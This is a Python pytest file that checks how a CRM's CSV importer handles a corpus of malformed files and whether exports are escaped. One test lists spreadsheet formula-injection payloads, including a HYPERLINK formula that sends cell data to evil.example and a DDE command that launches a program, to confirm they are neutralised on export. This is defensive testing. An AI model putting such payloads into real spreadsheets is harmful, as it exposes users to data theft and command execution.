"""The bad-CSV corpus (tests/data/bad_csv): for every file, exactly what a user sees.

Either the file is refused with an ImportFileError whose message says why, or the dry run and the
commit agree on counts, reject reasons, line numbers and the original values; the commit writes only
the valid rows, and committing the same file again creates nothing.
"""
from __future__ import annotations

import tomllib
from dataclasses import dataclass, field
from pathlib import Path

import polars as pl
import pytest

from crm_core import export
from crm_core.ingest import customers_import, runner
from crm_core.ingest.fields import KINDS
from crm_core.ingest.mapping import suggest_mapping
from crm_core.ingest.options import ImportOptions
from crm_core.ingest.runner import ACTIONS
from crm_core.ingest.sniff import ImportFileError
from crm_core.store import Store, open_store
from crm_core.validation import ValidationError
from tests.core.ingest.helpers import DATA, run, sniff, write

CORPUS = DATA / "bad_csv"
ROOT = DATA.parents[1]
ORPHAN_CUSTOMERS = "customer_id,name\nCUST0001,Ann\nCUST0002,Bob\nCUST0003,Cy\n"


@dataclass(frozen=True)
class Refused:
    """The file cannot be imported: an ImportFileError whose message holds these words."""

    words: tuple[str, ...]
    kind: str = "customers"


@dataclass(frozen=True)
class Imported:
    """The file imports: these counts, reject reasons (code -> rows), rejected lines, and what is stored."""

    kind: str
    counts: dict[str, int]
    stored: frozenset[str]
    reasons: dict[str, int] = field(default_factory=dict)
    lines: tuple[int, ...] = ()
    shown: tuple[str, ...] = ()  # original values the rejects frame must show
    words: tuple[str, ...] = ()  # words the reject reasons must use
    notes: tuple[str, ...] = ()  # words the sniff or run notes must use
    options: dict = field(default_factory=dict)
    setup: str | None = None  # a customers file imported first


def ok(create: int = 0, reject: int = 0) -> dict[str, int]:
    return {**dict.fromkeys(ACTIONS, 0), "create": create, "reject": reject}


def keys(*values: str) -> frozenset[str]:
    return frozenset(values)


BINARY = ("not a text file", "binary data", "Save as CSV")
CASES: dict[str, Refused | Imported] = {
    "empty.csv": Refused(("file is empty",)),
    "header_only.csv": Refused(("header row", "no data rows")),
    "blank_lines_only.csv": Refused(("no rows", "blank lines")),
    "whitespace_only.csv": Refused(("no rows", "blank lines")),
    "png_renamed.csv": Refused(BINARY),
    "stray_nul_byte.csv": Refused(BINARY),
    "zip_renamed.csv": Refused(("zip archive", "Unzip it", "upload the CSV inside")),
    "old_excel.csv": Refused(("Old Excel .xls", "not supported", "save it as .xlsx or CSV")),
    "missing_order_id.csv": Refused(("Map a column to Order ID", "required"), kind="orders"),
    "ragged_rows.csv": Imported(
        "customers", ok(2, 2), keys("C1", "C4"), {"ragged_row": 2}, (3, 4),
        ("C2,Bob Stone,bob@example.com,555-0101,Denver,extra,fields", "C3,Cy Twombly,cy@example.com"),
        ("The row has 7 fields but the header has 5", "The row has 3 fields but the header has 5")),
    "unquoted_commas.csv": Imported(
        "customers", ok(0, 4), keys(), {"ragged_row": 4}, (2, 3, 4, 5),
        ("Arjun Mehta,arjun@example.com,9876543210,1520.50,120,Electronics,Chennai, India,UPI,Email",),
        ("10 fields but the header has 9", "unquoted comma"),
        notes=("Most rows have 10 fields but the header has 9", "unquoted comma")),
    "long_line.csv": Imported(
        "customers", ok(2, 1), keys("C1", "C3"), {"ragged_row": 1}, (3,),
        ("C2,Bob Stone,bob@example.com,,Denver,xxx",), ("The row has 6 fields but the header has 5",)),
    "unterminated_quote.csv": Imported(
        "customers", ok(1, 1), keys("C1"), {"bad_quoting": 1}, (3,),
        ('C2,"Bob Stone,bob@example.com,,Denver', "C3,Cy Twombly,cy@example.com,,Austin"),
        ("never closed", "1 line(s) after it", "not imported")),
    "quoted_newlines.csv": Imported(
        "customers", ok(1, 1), keys("C1"), {"invalid_email": 1}, (3,), ("C2", "bob@@example.com", "Denver"),
        ("'bob@@example.com' is not a valid e-mail address",)),
    "orphan_orders.csv": Imported(
        "orders", ok(1, 3), keys("O-3"), {"unknown_customer": 3}, (2, 3, 5), ("O-1", "CUST001", "CUST002", "O-4"),
        ("Customer 'CUST001' not found",), options={"missing_customers": "reject"}, setup=ORPHAN_CUSTOMERS),
    "duplicate_emails_case.csv": Imported(
        "customers", ok(2, 2), keys("C1", "C2"), {"duplicate": 2}, (4, 5), ("ann.lee@example.com", "BOB@EXAMPLE.COM"),
        ("Duplicate of line 2 (same e-mail 'ann.lee@example.com')", "Duplicate of line 3")),
    "invalid_emails.csv": Imported(
        "customers", ok(2, 4), keys("C1", "C6"), {"invalid_email": 4}, (3, 4, 5, 6),
        ("bob(at)example.com", "cy@example", "di prince@example.com", "ed@@example.com"),
        ("'cy@example' is not a valid e-mail address",)),
    "negative_amounts.csv": Imported("orders", ok(4), keys("O-1", "O-2", "O-3", "O-4")),
    "non_numeric_amounts.csv": Imported(
        "orders", ok(2, 4), keys("O-1", "O-6"), {"bad_number": 3, "ragged_row": 1}, (3, 4, 5, 6),
        ("abc", "12.3.4", "N/A", "O-5,C3,2024-01-09,$1,234.50,paid"),
        ("Amount: 'abc' is not a number", "The row has 6 fields but the header has 5")),
    "mixed_date_formats.csv": Imported(
        "orders", ok(4, 2), keys("O-1", "O-2", "O-3", "O-6"), {"bad_date": 2}, (5, 6), ("15.03.2024", "March 5, 2024"),
        ("Order date: '15.03.2024' is not a date (expected M/D/YYYY H:MM (US))",)),
    "impossible_dates.csv": Imported(
        "orders", ok(3, 2), keys("O-1", "O-3", "O-5"), {"bad_date": 2}, (3, 5), ("31/02/2024", "30/02/2023"),
        ("Order date: '31/02/2024' is not a date (expected D/M/YYYY H:MM)",)),
    "unknown_status.csv": Imported(
        "orders", ok(2, 2), keys("O-1", "O-3"), {"unknown_status": 2}, (3, 5), ("teleported", "lost in space"),
        ("'teleported' is not a known order status", "pending, paid, shipped, delivered, cancelled, returned")),
    "latin1_cp1252.csv": Imported("customers", ok(3), keys("C1", "C2", "C3"), notes=("read as Windows-1252",)),
    "utf8_bom.csv": Imported("customers", ok(2), keys("ann@example.com", "bob@example.com")),
    "utf16_excel.csv": Imported("customers", ok(2), keys("C1", "C2")),
    "huge_field.csv": Imported(
        "customers", ok(1, 1), keys("C2"), {"bad_attribute": 1}, (2,), ("C1", "ann@example.com", "x" * 1024 * 1024),
        ("Custom attribute notes: the value is 1048576 characters long (at most 2,000)",)),
    "formula_cells.csv": Imported("customers", ok(4), keys("C1", "C2", "C3", "C4")),
    "semicolon_decimal_comma.csv": Imported("orders", ok(3), keys("O-1", "O-2", "O-3")),
    "tab_delimited.tsv": Imported("customers", ok(2), keys("C1", "C2")),
    "gzipped.csv.gz": Imported(
        "customers", ok(2, 1), keys("C1", "C2"), {"invalid_email": 1}, (4,), ("not-an-email",)),
    "preamble.csv": Imported(
        "customers", ok(2, 1), keys("C1", "C3"), {"invalid_email": 1}, (6,), ("C2", "bob.example.com"),
        notes=("The first 3 line(s) are not part of the table",)),
    "duplicate_headers.csv": Imported("customers", ok(2), keys("C1", "C2")),
    "float_customer_ids.csv": Imported("transactions", ok(4), keys("536365", "536366", "536367")),
}


def corpus_files() -> list[str]:
    return sorted(p.name for p in CORPUS.iterdir()
                  if p.name not in ("README.md", "make_corpus.py") and not p.name.startswith("."))


def stored_keys(store: Store, kind: str) -> frozenset[str]:
    if kind == "customers":
        return frozenset(r[0] for r in store.rows("SELECT coalesce(external_id, email) FROM customers"))
    return frozenset(r[0] for r in store.rows("SELECT external_id FROM orders"))


def table_sizes(store: Store) -> tuple[int, ...]:
    return tuple(store.scalar(f"SELECT count(*) FROM {t}")
                 for t in ("customers", "orders", "order_items", "customer_aliases"))


def shows(frame: pl.DataFrame, value: str) -> bool:
    """Whether the rejects frame holds the value as a cell, or inside a raw line the reader could not split."""
    raw = frame["raw_line"].to_list() if "raw_line" in frame.columns else []
    cells = {c for column in frame.columns if column not in ("line", "reason", "raw_line") for c in frame[column]}
    return value in cells or any(line and value in line for line in raw)


def test_every_corpus_file_has_an_expectation() -> None:
    assert corpus_files() == sorted(CASES)
    assert len(CASES) >= 25
    readme = (CORPUS / "README.md").read_text()
    assert all(f"`{name}`" in readme for name in CASES)


@pytest.mark.parametrize("name", [n for n, c in CASES.items() if isinstance(c, Refused)])
def test_refused_files_say_why(name: str, store: Store, tmp_path: Path) -> None:
    case = CASES[name]
    with pytest.raises(ImportFileError) as raised:
        run(store, tmp_path, case.kind, CORPUS / name, commit=False)
    for word in case.words:
        assert word in str(raised.value)
    assert store.scalar("SELECT count(*) FROM imports") == 0


@pytest.mark.parametrize("name", [n for n, c in CASES.items() if isinstance(c, Imported)])
def test_imported_files_reject_exactly_the_bad_rows(name: str, store: Store, tmp_path: Path) -> None:
    case = CASES[name]
    if case.setup:
        run(store, tmp_path, "customers", write(tmp_path, "setup.csv", case.setup))
    before_keys, before_sizes = stored_keys(store, case.kind), table_sizes(store)
    source = sniff(CORPUS / name, tmp_path)
    mapping = suggest_mapping(case.kind, source.headers)
    options = ImportOptions(**case.options)

    dry = runner.dry_run(store, case.kind, source, mapping, options)
    assert (stored_keys(store, case.kind), table_sizes(store)) == (before_keys, before_sizes)
    done = runner.commit(store, case.kind, source, mapping, options, user="tester")
    for summary in (dry, done):
        assert summary.counts == case.counts
        assert {code: n for code, _, n, _ in summary.reasons} == case.reasons
        assert summary.rejects["line"].to_list() == list(case.lines)
        assert all(shows(summary.rejects, value) for value in case.shown)
        reasons = " | ".join(summary.rejects["reason"].to_list())
        assert all(word in reasons for word in case.words), reasons
        notes = " ".join(source.notes + tuple(summary.notes))
        assert all(word in notes for word in case.notes), notes
    assert done.committed and done.rejects_total == case.counts["reject"]
    assert stored_keys(store, case.kind) == before_keys | case.stored
    recorded = store.rows("SELECT created, rejected, status FROM imports WHERE id = ?", [done.import_id])
    assert recorded == [(case.counts["create"], case.counts["reject"], "committed")]
    assert store.scalar("SELECT count(*) FROM import_rejects WHERE import_id = ?", [done.import_id]) == len(case.lines)

    after_sizes = table_sizes(store)
    again = runner.commit(store, case.kind, source, mapping, options, user="tester")
    assert again.counts["create"] == again.counts["update"] == 0
    assert again.counts["reject"] == case.counts["reject"]
    assert again.previous_import is not None and again.previous_import[0] == done.import_id
    assert table_sizes(store) == after_sizes and stored_keys(store, case.kind) == before_keys | case.stored


@pytest.mark.parametrize("name", corpus_files())
def test_no_corpus_file_raises_anything_but_a_clear_error(name: str, store: Store, tmp_path: Path) -> None:
    """Every kind, with detected and with overridden sniffing: only ImportFileError / ValidationError."""
    path = CORPUS / name
    for overrides in ({}, {"encoding": "utf-8"}, {"delimiter": ";"}, {"has_header": False}):
        try:
            source = sniff(path, tmp_path, **overrides)
        except (ImportFileError, ValidationError) as exc:
            assert str(exc).strip()
            continue
        for kind in KINDS:
            mapping = suggest_mapping(kind, source.headers)
            for step in (runner.dry_run, runner.commit):
                try:
                    summary = step(store, kind, source, mapping, ImportOptions())
                except (ImportFileError, ValidationError) as exc:
                    assert str(exc).strip()
                    continue
                assert sum(summary.counts.values()) == summary.rows_total  # every row is accounted for


def test_a_failed_commit_leaves_nothing_behind(store: Store, tmp_path: Path, monkeypatch) -> None:
    """All valid rows or nothing: a failure after the rows are written rolls all of them back."""
    real_apply = customers_import.apply

    def apply_then_fail(cur, ctx, import_id):
        real_apply(cur, ctx, import_id)
        assert cur.sql("SELECT count(*) FROM customers").fetchall()[0][0] == 2
        raise OSError("disk full")

    monkeypatch.setattr(customers_import, "apply", apply_then_fail)
    with pytest.raises(OSError):
        run(store, tmp_path, "customers", CORPUS / "ragged_rows.csv")
    assert table_sizes(store) == (0, 0, 0, 0)
    assert store.scalar("SELECT count(*) FROM imports") == 0
    assert store.scalar("SELECT count(*) FROM import_rejects") == 0


def test_orphan_orders_with_create_say_how_many_customers_would_be_made(store: Store, tmp_path: Path) -> None:
    run(store, tmp_path, "customers", write(tmp_path, "setup.csv", ORPHAN_CUSTOMERS))
    summary = run(store, tmp_path, "orders", CORPUS / "orphan_orders.csv", commit=False)
    assert summary.counts == ok(4) and summary.extras["new_customers"] == 3
    assert store.scalar("SELECT count(*) FROM customers") == 3


def _column(store: Store, sql: str) -> list:
    return [r[0] for r in store.rows(sql)]


def test_values_survive_odd_encodings_and_layouts(store: Store, tmp_path: Path) -> None:
    expected = {"latin1_cp1252.csv": {("José Núñez", "Málaga"), ("Jürgen Müller", "Köln"), ("Zoë Price €", "Genève")},
                "utf8_bom.csv": {("Bob Stone", "Zürich")}, "utf16_excel.csv": {("Åsa Öberg", None), ("李雷", None)},
                "tab_delimited.tsv": {("Ann Lee, Jr.", "Boston")}, "quoted_newlines.csv": {("Ann Lee", "Boston\nMA")}}
    for name, rows in expected.items():  # the files share ids: each goes to a workspace of its own
        workspace = open_store(tmp_path / f"{name}.duckdb")
        run(workspace, tmp_path, "customers", CORPUS / name)
        assert rows <= set(workspace.rows("SELECT name, city FROM customers")), name
    assert sniff(CORPUS / "utf8_bom.csv", tmp_path).headers[0] == "email"
    assert sniff(CORPUS / "duplicate_headers.csv", tmp_path).headers == ("customer_id", "email", "name", "email (2)")
    run(store, tmp_path, "customers", CORPUS / "duplicate_headers.csv")
    assert store.rows("SELECT email, attributes->>'email_2' FROM customers WHERE external_id = 'C1'") == [
        ("ann@example.com", "ann.work@example.com")]


def test_duplicate_emails_are_stored_lower_case(store: Store, tmp_path: Path) -> None:
    run(store, tmp_path, "customers", CORPUS / "duplicate_emails_case.csv")
    assert sorted(_column(store, "SELECT email FROM customers")) == ["ann.lee@example.com", "bob@example.com"]


def test_amounts_dates_and_statuses_are_read_as_written(store: Store, tmp_path: Path) -> None:
    summary = run(store, tmp_path, "orders", CORPUS / "semicolon_decimal_comma.csv")
    assert sniff(CORPUS / "semicolon_decimal_comma.csv", tmp_path).delimiter == ";"
    assert summary.setup_facts == {"order_date": "dmy"}
    rows = store.rows("SELECT external_id, amount::VARCHAR, strftime(ordered_at, '%Y-%m-%d') FROM orders ORDER BY 1")
    assert rows == [("O-1", "1234.50", "2024-01-05"), ("O-2", "12.50", "2024-01-06"), ("O-3", "0.99", "2024-01-07")]

    negative = run(store, tmp_path, "orders", CORPUS / "negative_amounts.csv")
    assert negative.extras["flagged"] == 2
    statuses = dict(store.rows("SELECT external_id, status || ' ' || amount FROM orders WHERE external_id IN "
                               "('O-1', 'O-2', 'O-3', 'O-4')"))
    assert statuses == {"O-1": "paid 25.00", "O-2": "returned -25.00", "O-3": "cancelled -5.50", "O-4": "shipped 12.00"}

    mixed = run(store, tmp_path, "orders", CORPUS / "mixed_date_formats.csv", commit=False)
    assert mixed.setup_facts == {"order_date": "mdy"}
    assert not any("every value fits both" in note for note in mixed.notes)
    dates = run(store, tmp_path, "orders", CORPUS / "impossible_dates.csv", commit=False)
    assert dates.setup_facts == {"order_date": "dmy"}

    run(store, tmp_path, "orders", CORPUS / "non_numeric_amounts.csv")
    run(store, tmp_path, "orders", CORPUS / "unknown_status.csv")
    assert store.scalar("SELECT amount::VARCHAR FROM orders WHERE external_id = 'O-6'") == "1234.50"
    assert store.scalar("SELECT status FROM orders WHERE external_id = 'O-3'") == "delivered"


def test_float_customer_ids_become_whole_numbers(store: Store, tmp_path: Path) -> None:
    summary = run(store, tmp_path, "transactions", CORPUS / "float_customer_ids.csv")
    assert summary.extras == {"orders": 3, "flagged": 0, "new_customers": 2}
    assert sorted(_column(store, "SELECT external_id FROM customers")) == ["13047", "17850"]
    customers = run(store, tmp_path, "customers", write(tmp_path, "c.csv", "customer_id,name\n17850.0,Ann\n"))
    assert customers.counts["create"] == 0 and customers.counts["update"] == 1
    assert store.scalar("SELECT count(*) FROM orders o JOIN customers c ON c.id = o.customer_id "
                        "WHERE c.external_id = '17850' AND c.name = 'Ann'") == 2


def test_formula_cells_are_stored_verbatim_and_exported_harmless(store: Store, tmp_path: Path) -> None:
    run(store, tmp_path, "customers", CORPUS / "formula_cells.csv")
    names = _column(store, "SELECT name FROM customers ORDER BY external_id")
    assert names == ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
    exported = export.export_bytes(store, "SELECT name, city FROM customers ORDER BY external_id", None, "csv")
    rows = pl.read_csv(exported).rows()
    assert all(value.startswith("'") for row in rows for value in row if value[:1] in "=+-@'")
    assert ("'@SUM(1)", "'=1+2") in rows


def test_uploads_larger_than_the_limit_are_refused_by_streamlit() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == 1024
